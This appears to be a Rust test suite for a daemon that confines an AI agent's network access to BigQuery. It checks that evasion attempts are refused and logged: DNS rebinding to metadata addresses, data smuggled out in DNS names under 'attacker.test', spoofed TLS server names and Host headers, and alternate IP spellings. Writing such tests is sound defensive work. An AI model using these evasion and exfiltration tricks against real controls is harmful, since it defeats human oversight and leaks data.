//! Tricks with names: what a name leads to, what it is spelled like, and who believes it.

use std::io::ErrorKind;
use std::net::{IpAddr, Ipv4Addr, TcpListener};

use harness::capture::Capture;
use harness::stage::{BIGQUERY4, OTHER4, OTHER6, Side};
use harness::world::{AGENT_UID, Family, Who, World, wait_for};
use serde_json::{Value, json};

use super::shown::nothing_on;
use super::talk::{BIGQUERY, DATASETS, Talk, each_is_refused, get, get_of, talk};
use super::{CONNECT, EPERM, Lock, agents, cases, refusal_is_on_record, said};

/// A name that answers where BigQuery does.
const STORAGE: &str = "storage.googleapis.com";
/// How many addresses a large answer has.
const MANY: u8 = 200;

/// Makes a socket, moves into a cgroup (which is given by its procs file), becomes a uid, and sends something to port 53 with that socket and
/// with a new one.
const ASKS_FROM_OUTSIDE: &str = r#"
import os, socket, sys
old = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
open(sys.argv[2], "w").write(str(os.getpid()))
os.setuid(int(sys.argv[3]))
for s in (old, socket.socket(socket.AF_INET, socket.SOCK_DGRAM)):
    try:
        s.sendto(b"a question", (sys.argv[1], 53)); print("ok")
    except OSError as error:
        print(error.strerror)
"#;

/// Connects a datagram socket, as for QUIC.
const UDP: &str = r#"
import socket, sys
try:
    socket.socket(socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET, socket.SOCK_DGRAM).connect((sys.argv[1], 443))
    print("ok")
except OSError as error:
    print(error.strerror)
"#;

/// Sends a TLS hello that names each server it is given (hexadecimal; as it is, whatever it is), and prints what comes back: the content
/// type of a record, or which error.
const NAMED: &str = r#"
import socket, ssl, sys
for name in map(bytes.fromhex, sys.argv[2:]):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context(); context.check_hostname = False
    stand_in = "a" * len(name)
    stream = context.wrap_bio(incoming, outgoing, server_hostname=stand_in)
    try:
        stream.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    assert hello.count(stand_in.encode()) == 1
    wire = socket.create_connection((sys.argv[1], 443), 5)
    wire.sendall(hello.replace(stand_in.encode(), name))
    try:
        print({b"\x15": "alert", b"\x16": "hello", b"": "end"}[wire.recv(1)])
    except OSError as error:
        print(type(error).__name__)
"#;

/// What becomes of an agent's hello that names these servers.
fn hellos(lock: &Lock, names: &[&[u8]]) -> Vec<String> {
    let hex = |name: &&[u8]| {
        name.iter()
            .map(|byte| format!("{byte:02x}"))
            .collect::<String>()
    };
    let named: Vec<String> = names.iter().map(hex).collect();
    let address = BIGQUERY4.to_string();
    let arguments: Vec<&str> = std::iter::once(address.as_str())
        .chain(named.iter().map(String::as_str))
        .collect();
    let agent = lock.world.cgroup_of(Who::Agent);
    let told = said(&mut lock.script(&agent, Some(AGENT_UID), NAMED, &arguments));
    told.lines().map(str::to_owned).collect()
}

fn answer_with(world: &World, addresses: &[IpAddr]) {
    world.set_names(&json!({BIGQUERY: {"addresses": addresses, "ttl_s": 1}}));
}

fn protected(world: &World) -> u64 {
    world.json(Who::Operator, &["status"])["endpoints"]
        .as_u64()
        .expect("a number")
}

/// What the agent's connection to an address is told.
fn connect(lock: &Lock, to: impl ToString) -> String {
    let agent = lock.world.cgroup_of(Who::Agent);
    said(&mut lock.script(&agent, Some(AGENT_UID), CONNECT, &[&to.to_string()]))
}

/// A large answer: addresses of a network of its own.
fn many(network: u8) -> Vec<IpAddr> {
    (1..=MANY)
        .map(|host| Ipv4Addr::new(10, 77, network, host).into())
        .collect()
}

fn for_bigquery(request: &Value) -> bool {
    request["host"] != STORAGE || request["path"].to_string().contains("bigquery")
}

cases! {
    /// an address that BigQuery shares: allowed one name there, the agent asks it for BigQuery
    31 Refused fn an_allowed_name_leads_to_no_other_at_its_address() {
        let mut world = World::without_daemon(Family::V4);
        world.edit_config("uid = 2001", &format!("uid = 2001\nallow = [\"{STORAGE}\"]"));
        world.start_daemon();
        let wire = Capture::of_text(&world.stage, [DATASETS.to_owned()]);
        let allowed = || (STORAGE, vec![get_of("/b", STORAGE), get_of(DATASETS, BIGQUERY)]);
        let talks: [Talk; 4] = [
            allowed(),
            (STORAGE, vec![format!("GET https://{BIGQUERY}{DATASETS} HTTP/1.1\r\nHost: {STORAGE}\r\n\r\n")]),
            (STORAGE, vec![format!("GET {DATASETS} HTTP/1.1\r\nHost: {STORAGE}\r\nHost: {BIGQUERY}\r\n\r\n")]),
            (STORAGE, vec![format!("CONNECT {BIGQUERY}:443 HTTP/1.1\r\nHost: {STORAGE}\r\n\r\n")]),
        ];
        let answers = talk(&world, Who::Agent, &talks);
        assert!(answers[0][0].starts_with("HTTP/1.1 200"), "the name itself is reached: {answers:?}");
        for refused in answers.iter().map(|said| said.last().expect("an answer")) {
            assert!(refused.starts_with("HTTP/1.1 403"), "{answers:?}");
        }
        let sent = world.far_requests();
        assert!(!sent.is_empty() && !sent.iter().any(for_bigquery), "{sent:?}");
        nothing_on(&wire, "a request for BigQuery");
        refusal_is_on_record(&world, "api.host", agents);
    }

    /// large answers that change all the time: hundreds of addresses, few seconds to live
    32 Refused fn every_address_of_large_and_changing_answers_is_protected() {
        let mut lock = Lock::without_daemon();
        let (first, second) = (many(100), many(101));
        answer_with(&lock.world, &first);
        lock.world.start_daemon();
        answer_with(&lock.world, &second);
        // Beside the two that the configuration names.
        wait_for("the next look-up", || protected(&lock.world) == 2 * u64::from(MANY) + 2);
        let places: Vec<IpAddr> = first.into_iter().chain(second).collect();
        let capture = Capture::start(&lock.world.stage, places.clone());
        for place in places.iter().step_by(19) {
            assert_eq!(connect(&lock, place), EPERM, "{place}");
        }
        assert_eq!(capture.packets(), 0);
        lock.nothing_got_out();
        lock.is_on_record("connect4", agents);
    }

    /// an address at which Google serves everything, and that no name has led to here: of Private Google Access, or of direct connectivity
    42 Refused fn the_addresses_of_private_access_are_protected_whatever_names_lead_to() {
        let lock = Lock::new();
        let vips = ["199.36.153.8", "199.36.153.7", "34.126.63.255", "2600:2d00:2:1000::1", "2600:2d00:2:20ff::1", "2001:4860:8040::1"];
        let wire = Capture::start(&lock.world.stage, vips.map(|vip| vip.parse().expect("an address")));
        let agent = lock.world.cgroup_of(Who::Agent);
        let other = lock.world.stage.cgroups.make("other");
        for vip in vips {
            assert_eq!(said(&mut lock.script(&agent, Some(AGENT_UID), CONNECT, &[vip])), EPERM, "{vip}");
            // Who is no agent gets there by way of the proxy alone, which reads the name.
            assert_eq!(said(&mut lock.script(&other, Some(3003), UDP, &[vip])), EPERM, "{vip}");
        }
        nothing_on(&wire, "packets for the addresses of private access");
        lock.is_on_record("connect4", |event| agents(event) && event["destination"] == "199.36.153.8:443");
        lock.is_on_record("connect6", |event| agents(event) && event["destination"] == "[2600:2d00:2:1000::1]:443");
    }

    /// rebinding: the name answers with loopback, link-local and metadata addresses
    33 Refused fn answers_that_lead_inside_are_not_believed() {
        let mut world = World::without_daemon(Family::V4);
        answer_with(&world, &[BIGQUERY4.into()]);
        world.start_daemon();
        let inside = ["127.0.0.1", "169.254.169.254", "0.0.0.0", "::1", "fe80::1", "fd00:ec2::254", "::ffff:127.0.0.1"]
            .map(|address| address.parse::<IpAddr>().expect("an address"));
        answer_with(&world, &inside);
        wait_for("the next look-up", || world.daemon_log().contains("DNS answer refused"));
        let waiting = world.stage.on(Side::Host, || TcpListener::bind("127.0.0.1:443").expect("binds"));
        let metadata = Capture::start(&world.stage, inside);
        let _ = world.open_window("demo-project.finance:read", "1m");
        // The client has the address from before.
        let answers = talk(&world, Who::Agent, &[(BIGQUERY, vec![get(DATASETS)])]).concat();
        assert!(answers.concat().contains("[upstream.failed]"), "{answers:?}");
        waiting.set_nonblocking(true).expect("sets");
        assert_eq!(waiting.accept().map(drop).map_err(|error| error.kind()), Err(ErrorKind::WouldBlock), "nobody came");
        nothing_on(&metadata, "packets for addresses inside");
        let sent = world.far_requests();
        assert!(sent.iter().all(|request| request["host"] == "sts.googleapis.com"), "{sent:?}");
        refusal_is_on_record(&world, "upstream.failed", agents);
    }

    /// a socket that was made outside the workload, which asks for names inside it: whose the question is could not be told
    34 Refused fn a_socket_from_outside_asks_for_no_names() {
        let lock = Lock::new();
        let server = Capture::start(&lock.world.stage, [OTHER4.into()]);
        let other = lock.world.stage.cgroups.make("other");
        let procs = lock.world.cgroup_of(Who::Agent).join("cgroup.procs").display().to_string();
        let told = said(&mut lock.script(&other, None, ASKS_FROM_OUTSIDE, &[&OTHER4.to_string(), &procs, &AGENT_UID.to_string()]));
        assert_eq!(told, format!("{EPERM}\nok"), "the old one, and one of its own");
        nothing_on(&server, "a question");
        lock.nothing_got_out();
        lock.is_on_record("sendmsg4 refused: the socket was made outside", agents);
    }

    /// names and addresses of the agent's own: a hosts file, an address that is written down
    34 Refused fn a_hosts_file_and_a_known_address_are_of_no_use() {
        let mut lock = Lock::without_daemon();
        // Before the daemon starts: it would believe a hosts file then, if it ever did.
        let hosts = lock.world.stage.dir().join("etc/hosts");
        std::fs::write(hosts, format!("{OTHER4} {BIGQUERY}\n{BIGQUERY4} innocent.example\n")).expect("writes");
        lock.world.start_daemon();
        for to in ["innocent.example", &BIGQUERY4.to_string(), "0x0a4d0807", "172820487"] {
            assert_eq!(connect(&lock, to), EPERM, "{to}");
        }
        assert_ne!(connect(&lock, OTHER4), EPERM, "the hosts file is not what is protected");
        lock.nothing_got_out();
        lock.is_on_record("connect4", agents);
    }

    /// odd spellings of a host in the TLS hello: a NUL, percent signs, brackets, a port, homographs, an address
    36 Refused fn odd_spellings_of_a_server_are_refused() {
        let lock = Lock::new();
        let _ = lock.world.open_window("demo-project.finance:read", "5m");
        // These are BigQuery's name, and are led to the proxy's own TLS.
        let same = hellos(&lock, &[b"bigquery.googleapis.com", b"BigQuery.GoogleAPIs.COM"]);
        assert_eq!(same, ["hello", "hello"]);
        let odd: &[&[u8]] = &[
            b"bigquery.googleapis.com\0.example.com",
            b"bigquery%2egoogleapis.com",
            b"[bigquery.googleapis.com]",
            b"bigquery.googleapis.com:443",
            b"bigquery.googleapis.com..",
            b"user@bigquery.googleapis.com",
            b".bigquery.googleapis.com",
            b"xn--bigquer-cwg.googleapis.com",
            "bigqu\u{435}ry.googleapis.com".as_bytes(),
            "bigquery\u{3002}googleapis\u{3002}com".as_bytes(),
            b"*.googleapis.com",
            b"10.77.8.7",
            b" bigquery.googleapis.com",
        ];
        for (name, how) in odd.iter().zip(hellos(&lock, odd)) {
            assert!(["alert", "ConnectionResetError"].contains(&how.as_str()), "{}: {how}", name.escape_ascii());
        }
        lock.nothing_got_out();
        refusal_is_on_record(&lock.world, "tls.hello", agents);
        refusal_is_on_record(&lock.world, "host.not_allowed", agents);
    }

    /// a name server of the agent's own choice, on any host, by datagrams or a connection
    34 NoEffect fn a_name_server_of_its_own_choice_is_not_asked() {
        let lock = Lock::new();
        let wire = Capture::start(&lock.world.stage, [OTHER4.into(), OTHER6.into()]);
        for server in [IpAddr::from(OTHER4), OTHER6.into()] {
            for how in ["sent", "connected", "tcp"] {
                let asked = [how, &server.to_string(), BIGQUERY, "A"];
                let told = lock.world.script_of(Who::Agent, "agent/ask.py", &asked);
                assert_eq!(told["answers"], json!(["192.0.2.80"]), "{how} {server}");
            }
        }
        assert_eq!(wire.packets(), 0);
        // What it is told leads nowhere without a window.
        assert_eq!(connect(&lock, "192.0.2.80"), EPERM);
        lock.nothing_got_out();
        lock.is_on_record("connect4", agents);
    }

    /// an alias of BigQuery's name in anybody's zone, with addresses that nothing has learnt
    34 Refused fn an_alias_leads_where_the_name_leads() {
        let lock = Lock::new();
        let elsewhere = Capture::start(&lock.world.stage, [OTHER4.into(), OTHER6.into()]);
        let addresses = json!([OTHER4, OTHER6]);
        lock.world.set_names(&json!({
            BIGQUERY: {"addresses": addresses, "ttl_s": 600},
            "whole.test": {"alias": BIGQUERY, "addresses": addresses, "ttl_s": 1},
            // The resolver goes on from here by itself, to what it is told of the name.
            "bare.test": {"alias": BIGQUERY, "addresses": [], "ttl_s": 1},
        }));
        for (name, kind, wanted) in [
            ("whole.test", "A", json!(["192.0.2.80"])),
            ("whole.test", "AAAA", json!([])),
            ("bare.test", "A", json!(["192.0.2.80"])),
            ("bare.test", "AAAA", json!([])),
        ] {
            let told = lock.world.script_of(Who::Agent, "agent/ask.py", &["sent", "192.0.2.53", name, kind]);
            assert_eq!(told["answers"], wanted, "{name} {kind}: {told}");
            assert_eq!(connect(&lock, name), EPERM, "{name}");
        }
        assert_eq!(elsewhere.packets(), 0);
        lock.nothing_got_out();
        lock.is_on_record("connect4", |event| agents(event) && event["destination"] == "192.0.2.80:443");
    }

    /// data in the names that are asked for, where the agent is told only the names on its list, and over TLS on port 853
    35 Refused fn names_that_carry_data_out_are_not_asked_for() {
        let mut lock = Lock::without_daemon();
        lock.world.edit_config("uid = 2001", "uid = 2001\ndns = \"strict\"");
        lock.world.start_daemon();
        let wire = Capture::start(&lock.world.stage, [OTHER4.into()]);
        for name in ["c2VjcmV0.attacker.test", "c2VjcmV0.bigquery.googleapis.com.attacker.test"] {
            for kind in ["A", "TXT", "CNAME"] {
                let asked = ["sent", &OTHER4.to_string(), name, kind];
                let told = lock.world.script_of(Who::Agent, "agent/ask.py", &asked);
                assert_eq!(told["code"], "REFUSED", "{name} {kind}");
            }
        }
        // What the daemon looks up for others is seen where it asks.
        let other = lock.world.script_of(Who::OtherAgent, "agent/ask.py", &["sent", &OTHER4.to_string(), "example.com", "A"]);
        assert_eq!(other["answers"], json!(["192.0.2.9"]));
        let asked = lock.world.asked_names();
        assert!(asked.iter().any(|name| name == "example.com"), "{asked:?}");
        assert!(!asked.iter().any(|name| name.contains("c2vjcmv0")), "{asked:?}");
        assert_eq!(lock.world.probe_port(Who::Agent, "tcp", OTHER4.into(), 853), "EPERM");
        assert_eq!(wire.packets(), 0);
        lock.nothing_got_out();
        refusal_is_on_record(&lock.world, "host.not_allowed", agents);
        lock.is_on_record("connect4 refused: this agent asks no name server", agents);
    }

    /// odd spellings of a host in the request
    36 Refused fn odd_spellings_of_a_requests_host_are_refused() {
        let lock = Lock::new();
        let _ = lock.world.open_window("demo-project.finance:read", "5m");
        let hosts = [
            "[bigquery.googleapis.com]", "[[bigquery.googleapis.com]]", "bigquery.googleapis.com:80", "bigquery.googleapis.com:443:443",
            "bigquery.googleapis.com..", "bigquery%2egoogleapis.com", "user@bigquery.googleapis.com", "bigquery.googleapis.com,example.com",
            "bigquery.googleapis.com/", "xn--bigquer-cwg.googleapis.com", "10.77.8.7", "",
        ];
        let mut cases: Vec<(&str, String)> = hosts.map(|host| ("api.host", get_of(DATASETS, host))).into();
        let unreadable = ["bigquery.googleapis.com\0.example.com", "bigquery.googleapis.com\r\n folded"];
        cases.extend(unreadable.map(|host| ("api.malformed", get_of(DATASETS, host))));
        cases.push(("api.host", get(DATASETS).replace("Host: bigquery.googleapis.com\r\n", "")));
        each_is_refused(&lock.world, &cases);
        lock.nothing_got_out();
        refusal_is_on_record(&lock.world, "api.host", agents);
        // What is the same name in another spelling is refused only for want of a token, which this world does not give.
        let same = ["BIGQUERY.googleapis.com", "bigquery.googleapis.com.", "bigquery.googleapis.com:443"];
        each_is_refused(&lock.world, &same.map(|host| ("token.unavailable", get_of(DATASETS, host))));
    }

    /// an address that the daemon before this one protected, and that the name has left
    37 Refused fn an_address_of_the_daemon_before_is_still_refused() {
        let mut lock = Lock::without_daemon();
        let (old, new) = (Ipv4Addr::new(10, 77, 102, 1), Ipv4Addr::new(10, 77, 102, 2));
        answer_with(&lock.world, &[old.into()]);
        lock.world.start_daemon();
        lock.world.kill_daemon();
        answer_with(&lock.world, &[new.into()]);
        lock.world.start_daemon();
        let capture = Capture::start(&lock.world.stage, [old.into(), new.into()]);
        assert_eq!([connect(&lock, old), connect(&lock, new)], [EPERM, EPERM]);
        assert_eq!(capture.packets(), 0);
        lock.nothing_got_out();
        lock.is_on_record("connect4", |event| agents(event) && event["destination"] == format!("{old}:443"));
    }
}
